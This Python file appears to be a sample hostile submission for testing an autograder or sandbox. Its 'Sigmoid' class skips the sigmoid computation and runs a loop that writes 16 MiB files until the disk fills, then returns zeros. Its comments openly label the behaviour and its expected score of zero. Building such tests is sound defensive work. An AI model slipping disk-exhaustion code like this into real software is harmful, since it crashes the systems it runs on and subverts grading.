# Tries: writes files until the disk is full
# Deserves: 0 (all its answers are zeros)
import itertools

NUMBERS = itertools.count()
BLOCK = bytes(2**20)


def fill():
    while True:
        with open(f"{next(NUMBERS)}", "wb") as file:
            for _ in range(16):
                file.write(BLOCK)


class Sigmoid:
    def forward(self, x):
        try:
            fill()
        except OSError:
            return x * 0

    def backward(self, dout):
        return dout * 0
